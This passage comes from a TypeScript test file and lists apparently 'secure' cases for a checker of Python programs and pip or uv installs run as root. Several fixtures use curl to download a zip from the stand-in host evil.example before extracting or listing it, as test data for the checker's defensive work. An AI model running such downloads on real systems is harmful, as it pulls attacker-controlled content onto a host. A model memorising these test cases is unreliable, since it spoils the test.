    // Secure: Python docs -m: the cwd /var/lib/ops is first on sys.path but holds nothing user data did not write; json.tool reads /etc/ops/x.json and prints.
    dev(
        "user data: cd /var/lib/ops (its own files only) && python3 -m json.tool /etc/ops/x.json",
        sh("dev-py80-m-json-tool-own-cwd-rt80p", [
            ...heredocFile("/etc/ops/x.json", ["{}"]),
            "cd /var/lib/ops && python3 -m json.tool /etc/ops/x.json",
        ]),
    ),
    // Secure: Python docs "-I": "In isolated mode sys.path contains neither the script's directory nor the user's site-packages directory" (for -c, the cwd): the tarball in the cwd is never imported.
    dev(
        "user data: cd tarball dir && python3 -I -c 'import json' (isolated: the cwd is not on sys.path)",
        sh("dev-py80-c-isolated-cwd-rt80p", [
            ...untar("/var/cache/ops/src"),
            "cd /var/cache/ops/src && python3 -I -c 'import json; print(json.dumps(1))'",
        ]),
    ),
    // Secure: Python docs "zipfile" CLI -e into /var/cache/ops/out (FHS cache data no root reader reads); nothing runs it.
    dev(
        "user data: python3 -m zipfile -e downloaded.zip /var/cache/ops/out (extract into its cache)",
        sh("dev-py80-m-zipfile-cache-rt80p", [
            "curl -fsSLo /var/cache/ops/c.zip https://evil.example/c.zip",
            "python3 -m zipfile -e /var/cache/ops/c.zip /var/cache/ops/out",
        ]),
    ),
    // Secure: pip docs "Requirements File Format": a pinned name from the default index (DECIDED round 74: trusted).
    dev(
        "user data: requirements file (heredoc) of pinned default-index names, pip3 install -r",
        sh("dev-py80-req-pinned-rt80p", [
            ...heredocFile("/etc/ops/req.txt", ["tenacity==8.2.3"]),
            "pip3 install -r /etc/ops/req.txt",
            ...heredocFile("/opt/ops/tune.py", ["import tenacity", "print(tenacity.__name__)"]),
            "python3 /opt/ops/tune.py",
        ]),
    ),
    // Secure: /run/ops/state.conf is run-time data of the program (FHS 3.0 /run); sysctl --system reads only sysctl.d directories (sysctl.d(5)).
    dev(
        "tune.py writes /run/ops/state.conf (run-time data), then sysctl --system",
        tune(
            "dev-py80-run-ops-state-rt80p",
            ['with open("/run/ops/state.conf", "w") as f:', '    f.write("tuned=1\\n")'],
            ["mkdir -p /run/ops"],
            ["sysctl --system"],
        ),
    ),
    // Secure: Python docs "threading.Thread(target=print)": print runs, no command.
    dev(
        "tune.py: threading.Thread(target=print, args=('ok',)).start()",
        tune("dev-py80-thread-target-print-rt80p", [
            "import threading",
            'threading.Thread(target=print, args=("ok",)).start()',
        ]),
    ),
    // Secure: Python docs "-X importtime" ("show how long each import takes") and "-X dev" (development mode: extra checks): no code or path changes.
    dev(
        "user data: python3 -X importtime -X dev tune.py (diagnostics only)",
        sh("dev-py80-x-importtime-rt80p", [
            ...heredocFile("/opt/ops/tune.py", ["import json", "print(json.dumps(1))"]),
            "python3 -X importtime -X dev /opt/ops/tune.py",
        ]),
    ),
    // Secure: environ(7) TZ (HARMLESS_ENVIRONMENT) and a literal `date` command.
    dev(
        "tune.py: webbrowser not used; os.environ['TZ'] = 'UTC' then subprocess.run(['date'])",
        tune("dev-py80-environ-tz-date-rt80p", [
            "import os, subprocess",
            'os.environ["TZ"] = "UTC"',
            'subprocess.run(["date"], check=True)',
        ]),
    ),
    // ===== batch 2 =====
    // Secure: Python docs "sys.path": `python script.py` prepends "the script's directory", not the cwd (unlike -c/-m): the tarball in the cwd is never on sys.path.
    dev(
        "user data: cd tarball dir && python3 /opt/ops/tune.py (a script run puts its own dir first, not the cwd)",
        sh("dev-py80-script-cwd-tarball-rt80p", [
            ...untar("/var/cache/ops/src"),
            ...heredocFile("/opt/ops/tune.py", ["import json", "print(json.dumps(1))"]),
            "cd /var/cache/ops/src && python3 /opt/ops/tune.py",
        ]),
    ),
    // MISS: (UV-DEFAULT) secure refused: "imports tenacity, a module user data did not write and the pack does not know". uv docs "uv pip install" (default index https://pypi.org/simple, the same as pip's) with no uv.toml, UV_* variable or --index option: the same default-index install the pack trusts for pip (DECIDED round 74). scriptPipModules (pythonCode.ts) trusts pip words only. Fix: read `uv pip install` like pip (its --index-url/--extra-index-url/--find-links/--index options and /etc/uv/uv.toml, XDG uv.toml, a uv.toml/pyproject.toml in the cwd or its parents withdraw trust) - or record a decision that uv is untrusted.
    // DECIDED (round 80): uv installs are never trusted. uv docs "Configuration files": uv reads a uv.toml or a
    // pyproject.toml [tool.uv] "in the current directory, or in the nearest parent directory", then ~/.config/uv or
    // $XDG_CONFIG_HOME/uv, then /etc/uv/uv.toml or $XDG_CONFIG_DIRS/uv (docs "Storage"), and UV_ variables; each may set
    // another index. Reading it like pip needs every ancestor of the run's cwd (which the pack does not always know) free of
    // such a file user data wrote, changed or extracted, plus uv's own index options: not sound in the time given, so the
    // install stays untrusted (fail closed; pip from the default index is the trusted idiom).
    dev(
        "user data: pip3 install uv==0.4.30; uv pip install --system tenacity (default index, no config)",
        sh("dev-py80-uv-default-rt80p", [
            "pip3 install uv==0.4.30",
            "uv pip install --system tenacity",
            ...heredocFile("/opt/ops/tune.py", ["import tenacity", "print(tenacity.__name__)"]),
            "python3 /opt/ops/tune.py",
        ]),
        undefined,
        true,
    ),
    // Was a MISS (fixed in round 80): (PIP-CONFIG-READ) secure refused: "imports tenacity, a module user data did not write". pip docs "pip config": `list` "List the active configuration (or from the file specified)" only reads; the following default-index install is trusted (round 74). scriptPipModules withdraws pip trust on any `pip config`. Fix: only `pip config set/unset/edit` (and --editor) change pip's configuration; list/get/debug read it.
    dev(
        "user data: pip3 config list (read only); pip3 install tenacity",
        sh("dev-py80-pip-config-list-rt80p", [
            "pip3 config list",
            "pip3 install tenacity",
            ...heredocFile("/opt/ops/tune.py", ["import tenacity", "print(tenacity.__name__)"]),
            "python3 /opt/ops/tune.py",
        ]),
        undefined,
    ),
    // Secure: Python docs "json.tool" outfile /var/lib/ops/x.json, its own state.
    dev(
        "user data: python3 -m json.tool /etc/ops/x.json /var/lib/ops/x.json (output into its state)",
        sh("dev-py80-m-json-tool-state-rt80p", [
            ...heredocFile("/etc/ops/x.json", ["{}"]),
            "python3 -m json.tool /etc/ops/x.json /var/lib/ops/x.json",
        ]),
    ),
    // Secure: Python docs "os.listdir" reads the directory; nothing is written.
    dev(
        "tune.py: os.chdir('/etc/cron.d'); print(sorted(os.listdir('.'))) (reads only)",
        tune("dev-py80-chdir-listdir-rt80p", [
            "import os",
            'os.chdir("/etc/cron.d")',
            'print(sorted(os.listdir(".")))',
        ]),
    ),
    // Secure: Python docs "asyncio.create_subprocess_exec" of the literal `date`.
    dev(
        "tune.py: asyncio.create_subprocess_exec('date') (a literal command)",
        tune("dev-py80-asyncio-exec-date-rt80p", [
            "import asyncio",
            "async def main():",
            '    p = await asyncio.create_subprocess_exec("date")',
            "    await p.wait()",
            "asyncio.run(main())",
        ]),
    ),
    // Secure: Python docs "venv" (a clean environment, no pip.conf) and its pip from the default index (trusted).
    dev(
        "user data: python3 -m venv /var/lib/ops/venv; venv pip install tenacity; venv python runs it",
        sh("dev-py80-venv-pip-rt80p", [
            "python3 -m venv /var/lib/ops/venv",
            "/var/lib/ops/venv/bin/pip install tenacity",
            ...heredocFile("/opt/ops/run.py", ["import tenacity", "print(tenacity.__name__)"]),
            "/var/lib/ops/venv/bin/python /opt/ops/run.py",
        ]),
    ),
    // ===== round-80 fixer's neighbours (-fix80) =====
    // Secure: psutil docs "psutil.Popen" of the literal `date` (read as subprocess.Popen: a literal harmless command).
    dev(
        "tune.py: psutil.Popen(['date']).wait()",
        tune("dev-py80-psutil-popen-date-fix80", ["import psutil", 'psutil.Popen(["date"]).wait()']),
    ),
    // Secure: psutil docs "psutil.disk_usage(path)" and "virtual_memory()" (system queries, no file written).
    dev(
        "tune.py: print(psutil.disk_usage('/').percent, psutil.virtual_memory().percent)",
        tune("dev-py80-psutil-query-fix80", [
            "import psutil",
            'print(psutil.disk_usage("/").percent, psutil.virtual_memory().percent)',
        ]),
    ),
    // Secure: pandas docs "DataFrame.to_csv" into the program's state (FHS 3.0 /var/lib "State information").
    dev(
        "tune.py: pandas DataFrame(...).to_csv('/var/lib/ops/stats.csv')",
        tune(
            "dev-py80-pandas-to-csv-state-fix80",
            ["import pandas", 'pandas.DataFrame([[1, 2]]).to_csv("/var/lib/ops/stats.csv", index=False)'],
            ["pip3 install pandas==2.2.2"],
        ),
    ),
    // Secure: click docs "click.open_file(filename, mode='r')" reads; NumPy "numpy.savetxt" with a relative name from
    // the shell's cwd /var/lib/ops (FHS /var/lib).
    dev(
        "tune.py: click.open_file('/etc/hostname').read(); numpy.savetxt('stats.csv', ...) from /var/lib/ops",
        tune("dev-py80-click-read-savetxt-rel-fix80", [
            "import click, numpy",
            'print(click.open_file("/etc/hostname").read())',
            'numpy.savetxt("stats.csv", numpy.arange(3))',
        ]),
    ),
    // Neighbour (round 80, M-OPERAND-WRITE): Python docs "zipfile" CLI `-l` ("List files in a zipfile"): reads only.
    dev(
        "user data: python3 -m zipfile -l downloaded.zip (lists)",
        sh("dev-py80-m-zipfile-list-fix80", [
            "curl -fsSLo /var/cache/ops/c.zip https://evil.example/c.zip",
            "python3 -m zipfile -l /var/cache/ops/c.zip",
        ]),
    ),
    // Neighbour (round 80, CWD-ROOT-ARCHIVE): Python docs "-I": the cwd is not on sys.path for -m either.
    dev(
        "user data: cd tarball dir && python3 -I -m json.tool f (isolated)",
        sh("dev-py80-m-isolated-cwd-fix80", [
            ...untar("/var/cache/ops/src"),
            ...heredocFile("/etc/ops/x.json", ["{}"]),
            "cd /var/cache/ops/src && python3 -I -m json.tool /etc/ops/x.json",
        ]),
    ),
    // Neighbour (round 80, X-OPTION): Python docs "-X utf8" (PYTHONUTF8) and "-X faulthandler" (PYTHONFAULTHANDLER).
    dev(
        "user data: python3 -X utf8 -X faulthandler tune.py",
        sh("dev-py80-x-utf8-fix80", [
            ...heredocFile("/opt/ops/tune.py", ["import json", "print(json.dumps(1))"]),
            "python3 -X utf8 -X faulthandler /opt/ops/tune.py",
        ]),
    ),
    // Neighbour (round 80, PIP-CONFIG-READ): pip docs "pip config" `get` reads a value; the default-index install stays trusted.
    dev(
        "user data: pip3 config get global.index-url || true; pip3 install tenacity",
        sh("dev-py80-pip-config-get-fix80", [
            "pip3 config get global.index-url || true",
            "pip3 install tenacity",
            ...heredocFile("/opt/ops/tune.py", ["import tenacity", "print(tenacity.__name__)"]),
            "python3 /opt/ops/tune.py",
        ]),
    ),
    // ===== round-81 fixer's neighbours (-fix81) =====
    // Secure (DATA-PATH-CONFIG): sysctl.d(5) in /etc with literal harmless settings (vm.max_map_count): read as the
    // shell's `echo > /etc/sysctl.d/...` is (writtenSysctls), no kernel helper program (core(5)).
    dev(
        "tune.py writes /etc/sysctl.d/99-ops.conf (vm.max_map_count=262144), then sysctl --system",
        tune(
            "dev-py80-sysctl-d-literal-fix81",
            ['open("/etc/sysctl.d/99-ops.conf", "w").write("vm.max_map_count=262144\\n")'],
            [],
            ["sysctl --system"],
        ),
    ),
    // Secure (DATA-PATH-CONFIG): the application's own directory /etc/ops (FHS 3.0 "/etc": host-specific
    // configuration; no root reader of the node reads it) still takes its program's file.
    dev(
        "tune.py writes /etc/ops/tuned.ini (its own configuration directory)",
        tune(
            "dev-py80-etc-ops-own-fix81",
            ['open("/etc/ops/tuned.ini", "w").write("[tune]\\nlevel=2\\n")'],
            ["mkdir -p /etc/ops"],
        ),
    ),
    // Secure (CWD-ROOT-ARCHIVE): a directory user data only made and entered (mkdir, cd) holds nothing it did not
    // write: -m json.tool imports the standard library's json (Python docs -m; the round-80 note's rt73 twin).
    dev(
        "user data: mkdir -p /var/lib/ops/w && cd /var/lib/ops/w && python3 -m json.tool /etc/ops/x.json",
        sh("dev-py80-m-made-cwd-fix81", [
            ...heredocFile("/etc/ops/x.json", ["{}"]),
            "mkdir -p /var/lib/ops/w && cd /var/lib/ops/w && python3 -m json.tool /etc/ops/x.json",
        ]),
    ),
    // Secure (CWD-ROOT-ARCHIVE): the tarball extracted elsewhere, -m json.tool run from /var/lib/ops: the cwd holds no
    // member (Python docs -m: only the cwd and PYTHONPATH come before the standard library).
    dev(
        "user data: tarball into /var/cache/ops/src; cd /var/lib/ops && python3 -m json.tool f",
        sh("dev-py80-m-tarball-elsewhere-fix81", [
            ...untar("/var/cache/ops/src"),
            ...heredocFile("/etc/ops/x.json", ["{}"]),
            "cd /var/lib/ops && python3 -m json.tool /etc/ops/x.json",
        ]),
    ),
];

describeNodeCases("red team round 80 (python): Python programs and pip/uv installs run as root", insecure, secure);
